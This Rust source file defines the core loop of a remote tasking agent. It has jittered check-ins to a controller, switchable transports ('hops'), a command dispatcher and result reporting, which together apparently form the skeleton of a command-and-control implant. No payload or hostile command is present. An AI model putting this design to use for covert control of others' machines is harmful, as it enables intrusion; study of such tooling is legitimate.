pub mod dispatch;
pub mod duplex_loop;
pub mod hop;
pub mod poll_loop;

use crate::config::{ChannelConfig, Transport, TransportFamily};
use crate::jitter;
use crate::protocol::Task;
use crate::transport::{self, Communicator};
use dispatch::CommandDispatcher;
use hop::HopSlot;
use std::sync::Arc;
use tokio_util::sync::CancellationToken;
use tracing::{debug, info, warn};
use uuid::Uuid;

pub use dispatch::{CommandContext, CommandHandler, CommandOutput, HandlerRef};
pub use hop::{HopIntent, HopOutcome};

/// How a run loop ended, seen by the outer loop selector.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(crate) enum LoopExit {
    /// Stop signal observed; the agent is shutting down.
    Stopped,
    /// A hop committed across transport families; the opposite loop must
    /// take over on the new channel.
    FamilyChanged,
}

/// The agent engine: one identity, one active channel, one run loop.
pub struct AgentCore {
    identity: Uuid,
    config: ChannelConfig,
    communicator: Box<dyn Communicator>,
    dispatcher: CommandDispatcher,
    hops: Arc<HopSlot>,
    stop: CancellationToken,
}

impl AgentCore {
    pub fn new(config: ChannelConfig) -> crate::Result<Self> {
        let identity = Uuid::new_v4();
        let communicator = transport::build(&config, identity)?;
        Ok(Self {
            identity,
            config,
            communicator,
            dispatcher: CommandDispatcher::new(),
            hops: Arc::new(HopSlot::default()),
            stop: CancellationToken::new(),
        })
    }

    /// Correlation key for the controller; never changes across hops.
    pub fn identity(&self) -> Uuid {
        self.identity
    }

    /// Variant of the currently active Communicator.
    pub fn transport(&self) -> Transport {
        self.communicator.transport()
    }

    pub fn config(&self) -> &ChannelConfig {
        &self.config
    }

    pub fn hop_slot(&self) -> Arc<HopSlot> {
        Arc::clone(&self.hops)
    }

    /// Handle for requesting shutdown from another task. Safe to call
    /// any number of times.
    pub fn stop_handle(&self) -> StopHandle {
        StopHandle {
            token: self.stop.clone(),
        }
    }

    /// Add or replace a command handler. Built-ins (`ping`, `hop`) are
    /// registered at construction.
    pub fn register_handler(&mut self, name: impl Into<String>, handler: HandlerRef) {
        self.dispatcher.register(name, handler);
    }

    /// Drive the agent until stopped. Selects the run loop by the active
    /// transport family and re-selects whenever a committed hop crosses
    /// families.
    pub async fn run(&mut self) -> crate::Result<()> {
        info!(agent_id = %self.identity, transport = %self.transport(), "agent starting");
        loop {
            let exit = match self.communicator.transport().family() {
                TransportFamily::Poll => self.run_poll_loop().await?,
                TransportFamily::Duplex => self.run_duplex_loop().await?,
            };
            match exit {
                LoopExit::Stopped => {
                    if let Err(e) = self.communicator.disconnect().await {
                        debug!(error = %e, "disconnect on shutdown failed");
                    }
                    info!(agent_id = %self.identity, "agent stopped");
                    return Ok(());
                }
                LoopExit::FamilyChanged => {
                    info!(transport = %self.transport(), "transport family changed, switching run loop");
                }
            }
        }
    }

    /// Dispatch one task synchronously and ship its result over the
    /// currently active channel. The next check-in/read waits for this.
    pub(crate) async fn execute_task(&mut self, task: Task) {
        debug!(task_id = %task.id, command = %task.command, "dispatching task");
        let ctx = CommandContext {
            identity: self.identity,
            active: self.config.clone(),
            hops: Arc::clone(&self.hops),
        };
        let result = self.dispatcher.dispatch(&ctx, &task).await;
        if let Err(e) = self.communicator.send_result(&result).await {
            warn!(task_id = %task.id, error = %e, "failed to send task result");
        }
    }

    /// Wait out one jittered interval, or less if stop fires first.
    /// Returns true when the agent should shut down.
    pub(crate) async fn idle_sleep(&self) -> bool {
        let interval = jitter::jittered(self.config.poll_interval, self.config.jitter);
        tokio::select! {
            _ = self.stop.cancelled() => true,
            _ = tokio::time::sleep(interval) => false,
        }
    }
}

/// Cheap cloneable shutdown trigger. `stop()` closes the signal exactly
/// once; repeat calls are no-ops. In-flight blocking calls are not
/// interrupted; the run loop observes the signal at its next await
/// point and disconnects the channel itself.
#[derive(Clone)]
pub struct StopHandle {
    token: CancellationToken,
}

impl StopHandle {
    pub fn stop(&self) {
        self.token.cancel();
    }
}
